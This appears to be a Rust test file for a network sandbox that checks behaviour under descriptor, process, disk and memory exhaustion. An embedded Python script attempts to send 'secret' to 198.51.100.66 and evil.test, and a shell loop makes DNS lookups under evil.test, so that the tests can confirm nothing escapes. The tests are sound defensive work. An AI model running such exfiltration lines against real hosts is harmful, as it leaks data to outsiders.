//! The machine runs out of something: descriptors, room for the log, memory.

use std::time::Duration;

use super::scaled;
use crate::jail::Jail;
use crate::suite::{Mode, Suite, both, once};
use crate::world::World;

pub(crate) fn add(suite: &mut Suite) {
    both!(suite, too_few_descriptors, descriptors_run_out, log_is_full, memory_runs_out);
    // Root has no such limit.
    once!(suite, too_few_processes);
}

/// With next to none nothing is started.
fn too_few_descriptors(mode: Mode) {
    let world = World::new();
    for limit in [12, 16, 24] {
        let outcome =
            Jail::new(&world, mode).under(&["prlimit", &format!("--nofile={limit}:{limit}")]).run(["true"]);
        outcome.assert_code(125);
        assert!(!outcome.says("panicked"), "{outcome}");
    }
    let few = Jail::new(&world, mode).under(&["prlimit", "--nofile=24:24"]).run(["true"]);
    few.assert_says("raise the hard limit (ulimit -Hn)");
    world.assert_nothing_left();
}

/// The remedy is for what was in the way, and for nothing that could not be looked at.
fn too_few_processes() {
    let world = World::new();
    let jail = Jail::new(&world, Mode::Rootless).under(&["prlimit", "--nproc=1:1"]);
    let outcome = jail.run(["true"]);
    outcome.assert_code(125).assert_says("ulimit -u");
    assert!(!outcome.says("modprobe") && !outcome.says("missing"), "{outcome}");
    world.assert_nothing_left();
}

/// Some connections wait or fail, the user is told once, nothing opens, and afterwards all is well.
fn descriptors_run_out(mode: Mode) {
    let world = World::new();
    let (heard, _) = world.tcp_echo("echo.test", 7007, b"");
    let script = "\
import os, socket, sys, time
def echo(limit):
    s = socket.create_connection(('echo.test', 7007), 5)
    s.settimeout(limit)
    s.sendall(b'\\0\\1')
    return s if s.recv(1) == b'\\0' else None
children = []
for _ in range(5):
    read, write = os.pipe()
    if os.fork() == 0:
        worked, failed = [], 0
        while len(worked) < 40 and failed < 3:
            try: worked.append(echo(0.5))
            except OSError: failed += 1
        for target in (('198.51.100.66', 443), ('evil.test', 80)):
            try: socket.create_connection(target, 0.3).sendall(b'secret')
            except OSError: pass
        os.write(write, b'%d ' % len(worked))
        time.sleep(1)
        os._exit(0)
    os.close(write)
    children.append(read)
print(sum(int(os.read(read, 99)) for read in children) < 200)
for _ in children: os.wait()
for _ in range(50):
    try:
        if echo(1): break
    except OSError: time.sleep(0.1)
else: sys.exit('it did not recover')
print('recovered')
";
    let jail = Jail::new(&world, mode).allow("echo.test:7007").under(&["prlimit", "--nofile=100:100"]);
    let outcome = jail.python(script);
    outcome.assert_success().assert_stdout("True\nrecovered\n");
    assert_eq!(outcome.stderr.matches("out of file descriptors").count(), 1, "{outcome}");
    assert!(heard.connections() > 0);
    world.assert_attacker_saw_nothing();
    world.assert_nothing_left();
}

/// The job is not harmed, and the run says that its log is not complete.
fn log_is_full(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let place = world.files().shared().join("tiny");
    let place = place.to_str().unwrap();
    let host = Jail::direct(&world, Mode::Root);
    host.shell(&format!("mkdir {place} && mount -t tmpfs -o size=16k,mode=1777 tmpfs {place}"))
        .assert_success();
    let jail = Jail::new(&world, mode).allow("good.test").without_log_file();
    let log = format!("{place}/log.json");
    let jail = jail.option("--log-format").option("json").option("--log-file").option(&log);
    let script =
        "for n in $(seq 150); do getent hosts n$n.evil.test; done; curl -sS http://good.test/; exit 7";
    let outcome = jail.shell(script);
    outcome.assert_code(125).assert_says("hello from good.test\n").assert_says("its log is not complete");
    outcome.assert_says("No space left on device").assert_says(&log);
    assert_eq!(site.requests().len(), 1);
    let kept = host.shell(&format!("cat {log}; umount {place}"));
    let lines: Vec<&str> = kept.stdout.split_inclusive('\n').collect();
    assert!(lines.len() > 20, "{kept}");
    for line in &lines[..lines.len() - 1] {
        assert!(serde_json::from_str::<serde_json::Value>(line).is_ok(), "{line}");
    }
    world.assert_attacker_saw_nothing();
}

/// Responses that are opened and hardly read, with little memory for the gateway: what it keeps of each is bounded.
fn memory_runs_out(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let script = format!(
        "import socket\n\
         all = []\n\
         for n in range({}):\n\
         \x20   s = socket.create_connection(('good.test', 80), 5)\n\
         \x20   s.sendall(b'GET /bytes/100000000 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')\n\
         \x20   assert s.recv(12) == b'HTTP/1.1 200', n\n\
         \x20   all.append(s)\n\
         print(len(all), flush=True)\n\
         s = socket.create_connection(('good.test', 80), 5)\n\
         s.sendall(b'GET / HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n')\n\
         print(s.recv(12))\n",
        scaled(300, 2000)
    );
    let jail = Jail::new(&world, mode).allow("good.test").within(Duration::from_secs(60));
    let limit = scaled("--as=400000000", "--as=1500000000");
    let outcome = jail.under(&["prlimit", limit]).python(&script);
    outcome.assert_success().assert_says("b'HTTP/1.0 200'");
    assert!(!site.requests().is_empty());
    // The recorder of packets does not keep so many.
    assert!(world.attacker().contacts().is_empty());
    world.assert_nothing_left();
}
